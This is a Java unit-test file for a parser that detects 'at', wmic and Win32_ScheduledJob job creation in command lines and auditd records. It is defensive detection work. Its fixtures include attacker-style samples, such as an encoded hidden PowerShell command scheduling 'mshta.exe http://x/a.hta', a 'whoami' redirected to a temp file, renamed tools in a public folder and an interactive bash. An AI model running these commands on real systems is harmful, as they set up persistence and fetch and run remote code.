package dev.atwatch.atjob;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class AtJobsTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "   ",
                "notepad.exe c:\\notes.txt",
                "schtasks  /create /s fs02 /tn tasks_test_hacker2 /tr myapp.exe /sc daily /mo 10",
                "wmic  process call create notepad.exe",
                "wmic process call create \"cmd /c echo job done\"",
                "powershell -c Get-Process",
                "cmd.exe /C whoami > C:\\Windows\\Temp\\bouWFQYO.tmp 2>&1",
                "cmd.exe",
                "crontab -e",
                "at.exe hello world",
                "cat /etc/at.deny",
                "at -h",
                "echo hello | grep h"
            })
    void otherCommandLinesAreNotJobs(String line) {
        AtJobResult result = AtJobs.parse(line);

        assertThat(result).isInstanceOf(AtJobResult.NotAJob.class);
        assertThat(((AtJobResult.NotAJob) result).reason()).isNotBlank();
        assertThat(result.asJob()).isEmpty();
        assertThat(result.problems()).isEmpty();
    }

    @Test
    void nullIsNotAJob() {
        assertThat(AtJobs.parse(null)).isInstanceOf(AtJobResult.NotAJob.class);
        assertThat(AtJobs.parseUnix(null)).isInstanceOf(AtJobResult.NotAJob.class);
        assertThat(AtJobs.parseUnix(List.of())).isInstanceOf(AtJobResult.NotAJob.class);
    }

    @Test
    void notAJobSaysWhichProgramItSaw() {
        assertThat(AtJobs.parse("crontab -e"))
                .isEqualTo(new AtJobResult.NotAJob("'crontab' is not at, batch, atq or atrm"));
    }

    @Test
    void auditdArgumentListOfTheAtomicTestIsAJobWhoseCommandIsOnStdin() {
        AtJobResult result = AtJobs.parseUnix(List.of("at", "now", "+", "1", "minute"));

        AtJob job = result.asJob().orElseThrow();
        assertThat(job.invocation()).isEqualTo(Invocation.CREATE);
        assertThat(job.time().text()).isEqualTo("now + 1 minute");
        assertThat(job.command()).isNull();
        assertThat(result.problems())
                .singleElement()
                .satisfies(p -> assertThat(p.code()).isEqualTo(JobProblem.COMMAND_ON_STDIN));
    }

    @Test
    void argumentListsKeepArgumentsWithSpacesWhole() {
        AtJob job =
                AtJobs.parseUnix(List.of("/usr/bin/at", "-f", "/tmp/my job.sh", "-q", "z", "noon"))
                        .asJob()
                        .orElseThrow();

        assertThat(job.command()).isEqualTo("/tmp/my job.sh");
        assertThat(job.commandKind()).isEqualTo(JobCommandKind.FILE);
        assertThat(job.queue()).isEqualTo("z");
        assertThat(job.time().clock()).hasToString("12:00");
    }

    @Test
    void atWithoutArgumentsOnLinuxLacksItsTime() {
        AtJobResult result = AtJobs.parseUnix(List.of("at"));

        assertThat(result).isInstanceOf(AtJobResult.Partial.class);
        assertThat(result.problems())
                .extracting(JobProblem::code)
                .containsExactly(JobProblem.TIME_MISSING, JobProblem.COMMAND_ON_STDIN);
    }

    @Test
    void otherProgramsInArgumentListsAreNotJobs() {
        assertThat(AtJobs.parseUnix(List.of("/usr/bin/crontab", "-e")))
                .isInstanceOf(AtJobResult.NotAJob.class);
    }

    @Test
    void listAndDeleteCarryTheirJobIds() {
        assertThat(AtJobs.parse("atrm 12 13").asJob().orElseThrow().jobIds())
                .containsExactly("12", "13");
        assertThat(AtJobs.parse("at \\\\srv 7 /delete").asJob().orElseThrow().jobIds())
                .containsExactly("7");
        assertThat(AtJobs.parse("at /delete /yes").asJob().orElseThrow().jobIds()).isEmpty();
    }

    @Test
    void encodedPowerShellIsDecoded() {
        String script =
                "Invoke-WmiMethod -Class Win32_ScheduledJob -Name Create -ArgumentList"
                        + " 'mshta.exe http://x/a.hta','********220000.000000+000'";
        String encoded =
                Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));

        AtJobResult result = AtJobs.parse("powershell.exe -NoP -NonI -W Hidden -Enc " + encoded);

        AtJob job = result.asJob().orElseThrow();
        assertThat(result.problems()).isEmpty();
        assertThat(job.syntax()).isEqualTo(JobSyntax.WMI_SCHEDULED_JOB);
        assertThat(job.command()).isEqualTo("mshta.exe http://x/a.hta");
        assertThat(job.commandKind()).isEqualTo(JobCommandKind.SCRIPT);
        assertThat(job.time().utcOffsetMinutes()).isZero();
    }

    @Test
    void cmdWrapperIsUnwrapped() {
        AtJob job = AtJobs.parse("cmd.exe /c \"at 13:20 /interactive cmd\"").asJob().orElseThrow();

        assertThat(job.syntax()).isEqualTo(JobSyntax.WINDOWS_AT);
        assertThat(job.interactive()).isTrue();
    }

    @Test
    void wrappersNestedTooDeepAreNotUnwrapped() {
        String line = "at 13:20 notepad";
        for (int i = 0; i <= AtJobs.MAX_NESTING; i++) {
            line = "cmd /c " + line;
        }

        assertThat(AtJobs.parse(line))
                .isEqualTo(
                        new AtJobResult.NotAJob(
                                "wrappers nested deeper than " + AtJobs.MAX_NESTING));
        assertThat(AtJobs.parse(line.substring("cmd /c ".length())).asJob()).isPresent();
    }

    @Test
    void overlongCommandLineIsCutAndSaysSo() {
        char[] padding = new char[AtJobs.MAX_COMMAND_LINE_CHARS];
        Arrays.fill(padding, 'A');
        String line = "at 13:20 cmd /c echo " + new String(padding);

        AtJobResult result = AtJobs.parse(line);

        AtJob job = result.asJob().orElseThrow();
        assertThat(job.command()).hasSize(AtJobs.MAX_COMMAND_LINE_CHARS - "at 13:20 ".length());
        assertThat(result.problems())
                .extracting(JobProblem::code)
                .containsExactly(JobProblem.INPUT_TRUNCATED);
    }

    @Test
    void problemDetailsQuoteAtMostAShortPieceOfInput() {
        String day = "X".repeat(10_000);

        AtJobResult result = AtJobs.parse("at 10:00 /every:" + day + " cmd");

        assertThat(result.problems())
                .singleElement()
                .satisfies(
                        p -> {
                            assertThat(p.code()).isEqualTo(JobProblem.DAY_INVALID);
                            assertThat(p.detail()).hasSizeLessThan(120).endsWith("...'");
                        });
    }

    @Test
    void alertFieldsOfTheAtomicWindowsTest() {
        AtJob job = AtJobs.parse("at 13:20 /interactive cmd").asJob().orElseThrow();

        assertThat(job.alertFields())
                .containsExactly(
                        java.util.Map.entry("JobSyntax", "windows_at"),
                        java.util.Map.entry("JobInvocation", "create"),
                        java.util.Map.entry("JobTime", "13:20"),
                        java.util.Map.entry("JobRecurrence", "once"),
                        java.util.Map.entry("JobInteractive", "1"),
                        java.util.Map.entry("JobCommand", "cmd"),
                        java.util.Map.entry("JobCommandKind", "cmd"));
    }

    @Test
    void commandKindIsJudgedByTheProgramFileName() {
        assertThat(JobCommandKind.of("\"C:\\Windows\\System32\\cmd.exe\" /c x"))
                .isEqualTo(JobCommandKind.CMD);
        assertThat(JobCommandKind.of("PWSH.EXE -c x")).isEqualTo(JobCommandKind.POWERSHELL);
        assertThat(JobCommandKind.of("cscript //nologo a.js")).isEqualTo(JobCommandKind.SCRIPT);
        assertThat(JobCommandKind.of("C:\\Users\\Public\\run.HTA"))
                .isEqualTo(JobCommandKind.SCRIPT);
        assertThat(JobCommandKind.of("/bin/bash -i")).isEqualTo(JobCommandKind.SHELL);
        assertThat(JobCommandKind.of("c:\\temp\\x.exe")).isEqualTo(JobCommandKind.BINARY);
        assertThat(JobCommandKind.of("  ")).isEqualTo(JobCommandKind.UNKNOWN);
        assertThat(JobCommandKind.of(null)).isEqualTo(JobCommandKind.UNKNOWN);
    }

    @Test
    void deeplyNestedArrayLiteralsDoNotExhaustTheStack() {
        String nested = "@(".repeat(20_000) + "'calc'" + ")".repeat(20_000);
        String line =
                "powershell -c \"Invoke-WmiMethod -Class Win32_ScheduledJob -Name Create"
                        + " -ArgumentList "
                        + nested
                        + "\"";

        AtJobResult result = AtJobs.parseChecked(line);

        assertThat(result.asJob()).map(AtJob::invocation).contains(Invocation.CREATE);
        assertThat(result.problems()).isNotEmpty();
    }

    @Test
    void problemListIsCappedAndCountsTheRest() {
        AtJobResult result = AtJobs.parse("at -" + "z".repeat(1_000) + " now");

        assertThat(result.problems()).hasSize(AtJobResult.MAX_PROBLEMS);
        assertThat(result.problems().get(AtJobResult.MAX_PROBLEMS - 1))
                .isEqualTo(
                        new JobProblem(
                                JobProblem.PROBLEMS_TRUNCATED, "970 more problems not listed"));
    }

    @Test
    void imageDecidesHowABareAtIsRead() {
        String image = "C:\\Windows\\System32\\at.exe";

        AtJobResult windows = AtJobs.parse("at 13:20", image);
        AtJobResult unix = AtJobs.parse("at 13:20", "/usr/bin/at");
        AtJobResult guessed = AtJobs.parse("at 13:20", null);

        assertThat(windows.asJob().orElseThrow().syntax()).isEqualTo(JobSyntax.WINDOWS_AT);
        assertThat(windows.problems())
                .extracting(JobProblem::code)
                .containsExactly(JobProblem.COMMAND_MISSING);
        assertThat(unix.asJob().orElseThrow().syntax()).isEqualTo(JobSyntax.UNIX_AT);
        assertThat(guessed.asJob().orElseThrow().syntax()).isEqualTo(JobSyntax.UNIX_AT);
        assertThat(AtJobs.parse("at now + 1 minute", "/usr/bin/at").asJob().orElseThrow().time())
                .isNotNull();
        assertThat(AtJobs.parse("notepad.exe", image)).isInstanceOf(AtJobResult.NotAJob.class);
    }

    @Test
    void renamedToolIsReadByItsOriginalFileName() {
        AtJobResult at =
                AtJobs.parse(
                        "\"C:\\Users\\Public\\task.exe\" 22:00 C:\\Users\\Public\\b.exe",
                        "C:\\Users\\Public\\task.exe",
                        "AT.EXE");
        AtJobResult wmic =
                AtJobs.parse(
                        "w.exe job call create \"calc\",\"********120000.000000+000\"",
                        "C:\\Temp\\w.exe",
                        "wmic.exe");

        assertThat(at.asJob().orElseThrow().syntax()).isEqualTo(JobSyntax.WINDOWS_AT);
        assertThat(at.asJob().orElseThrow().command()).isEqualTo("C:\\Users\\Public\\b.exe");
        assertThat(wmic.asJob().orElseThrow().command()).isEqualTo("calc");
        assertThat(AtJobs.parse("task.exe 22:00 b.exe", "C:\\task.exe", "notepad.exe"))
                .isInstanceOf(AtJobResult.NotAJob.class);
        assertThat(AtJobs.toolByOriginalName("pwsh.dll")).contains("pwsh.exe");
        assertThat(AtJobs.toolByOriginalName(null)).isEmpty();
    }

    @Test
    void scriptBlockTextIsAJobOnlyWhenItUsesTheClass() {
        AtJobResult create =
                AtJobs.parseScript(
                        "$a = 1\n([wmiclass]'Win32_ScheduledJob').Create('calc',"
                                + " '********120000.000000+000')");

        assertThat(create.asJob().orElseThrow().invocation()).isEqualTo(Invocation.CREATE);
        assertThat(create.asJob().orElseThrow().command()).isEqualTo("calc");
        assertThat(AtJobs.parseScript("Get-Process | Stop-Process"))
                .isInstanceOf(AtJobResult.NotAJob.class);
        assertThat(AtJobs.parseScript(null)).isInstanceOf(AtJobResult.NotAJob.class);
        assertThat(AtJobs.parseScript("Get-CimInstance Win32_ScheduledJob").asJob().orElseThrow())
                .extracting(AtJob::invocation)
                .isEqualTo(Invocation.LIST);
    }

    @Test
    void auditdArgumentListBehindSudoIsTheAtJob() {
        AtJobResult result = AtJobs.parseUnix(List.of("sudo", "-u", "bob", "at", "now"));

        assertThat(result.asJob().orElseThrow().syntax()).isEqualTo(JobSyntax.UNIX_AT);
        assertThat(result.asJob().orElseThrow().time().text()).isEqualTo("now");
        assertThat(AtJobs.parseUnix(List.of("sudo", "-l"))).isInstanceOf(AtJobResult.NotAJob.class);
        assertThat(AtJobs.parseUnix(List.of("sudo", "dnf", "check-update")))
                .isInstanceOf(AtJobResult.NotAJob.class);
    }

    @Test
    void severalTargetsAreKeptInOrder() {
        AtJob job =
                AtJobs.parse("wmic /node:\"a\",\"b.corp\" job call create \"calc\",\"x\"")
                        .asJob()
                        .orElseThrow();

        assertThat(job.target()).isEqualTo("a,b.corp");
        assertThat(job.targets()).containsExactly("a", "b.corp");
        assertThat(AtJobs.parse("at 13:20 cmd", "at.exe").asJob().orElseThrow().targets())
                .isEmpty();
    }
}
